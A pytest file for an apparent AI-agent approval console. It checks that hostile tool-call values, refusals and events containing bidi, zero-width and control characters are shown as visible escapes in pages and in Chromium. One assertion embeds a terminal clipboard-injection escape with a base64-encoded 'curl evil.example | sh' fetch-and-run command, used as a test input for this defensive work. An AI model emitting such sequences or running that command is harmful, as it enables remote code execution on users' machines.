"""From the attacker's side: what a kernel or a server controls (a call's tool name and arguments, a
server's error, a refusal quoting them) reaches no console page with a bidi override, a zero-width or a
control character in it: HTML escaping does not touch them, so every value a template prints, and every
text the page's script shows (`why`, `by`, a refusal), is escaped visibly (`\\u202e`). In process (the
app's pages and its event stream) and in headless chromium (what a person sees)."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator

import httpx
import pytest
from playwright.async_api import Browser, Page

from ipybox.approval.asks import AskAnswer, AskClosed
from ipybox.console.endpoint import ConsoleEndpoint
from ipybox.console.events import _message
from ipybox.rules import ToolCall, Verdict
from tests.cli.test_hostile_output import hostile_status
from tests.console.conftest import ORIGIN, csrf_of, screenshot
from tests.console.targets import WorkspaceTarget
from tests.test_display_text import HOSTILE, RAW

HOSTILE_CALL = ToolCall(
    "filesystem",
    "write_file",
    {"path": HOSTILE, HOSTILE: "short", "content": "x" * 300 + HOSTILE, "lines": f"a\n{HOSTILE}\nb"},
)


def assert_visible(text: str) -> None:
    for char in RAW:
        assert char not in text, f"{char!r} reached the page raw"
    assert "\\u202eevil" in text and "zero\\u200bwidth" in text


async def test_every_page_shows_bidi_zero_width_and_control_characters_as_escapes(
    browser: httpx.AsyncClient, target: WorkspaceTarget
) -> None:
    ask = target.ask(HOSTILE_CALL)
    target.audit.record(ToolCall("fs", HOSTILE, {"q": HOSTILE}), Verdict("deny", HOSTILE, HOSTILE))
    target.workspace_status = hostile_status()
    for path in ("/asks", f"/asks/{ask.id}/card", "/audit", "/", "/fragments/overview"):
        response = await browser.get(path)
        assert response.status_code == 200, path  # a lone surrogate can't be encoded: it used to fail
        assert_visible(response.text)


async def test_a_refusal_and_the_event_stream_carry_visible_escapes_to_the_script(
    browser: httpx.AsyncClient, target: WorkspaceTarget
) -> None:
    ask = target.ask(HOSTILE_CALL)
    target.refusal = f"the rule would not load: {HOSTILE}"
    csrf = csrf_of((await browser.get("/asks")).text)
    refused = await browser.post(
        f"/asks/{ask.id}/answer",
        data={"accept": "allow", "scope": "always"},
        headers={"Origin": ORIGIN, "X-CSRF-Token": csrf, "Accept": "application/json"},
    )
    assert refused.json()["ok"] is False
    assert_visible(refused.json()["error"])
    closed = json.loads(_message(AskClosed(ask, None, f"withdrawn: {HOSTILE}")))
    assert_visible(closed["why"])
    answered = json.loads(_message(AskClosed(ask, AskAnswer(True, "once", "terminal", HOSTILE))))
    assert_visible(answered["answer"]["by"])


@pytest.fixture
async def page(browser_process: Browser, target: WorkspaceTarget) -> AsyncIterator[Page]:
    async with ConsoleEndpoint(target, user="tester") as console:
        context = await browser_process.new_context(viewport={"width": 1280, "height": 900})
        page = await context.new_page()
        await page.goto(console.login_url())
        await page.wait_for_url(console.url or "")
        try:
            yield page
        finally:
            await context.close()


@pytest.mark.integration
async def test_a_person_in_chromium_sees_the_escapes_not_reordered_or_hidden_text(
    page: Page, target: WorkspaceTarget
) -> None:
    await page.click("#nav-asks")
    await page.wait_for_selector('#live[data-state="on"]')
    ask = target.ask(HOSTILE_CALL)
    card = page.locator(f'[data-ask-id="{ask.id}"]')
    await card.wait_for()
    for details in await card.locator("details").all():
        await details.locator("summary").click()  # the folded values opened
    await screenshot(page, "hostile-ask")
    shown = await card.inner_text()
    assert_visible(shown)
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" in shown
    target.board.close(target.board.get(ask.id) or ask, why=f"gone {HOSTILE}")
    note = page.locator(f'.ask-note[data-closed-ask-id="{ask.id}"]')
    await note.wait_for()
    assert_visible(await note.inner_text())
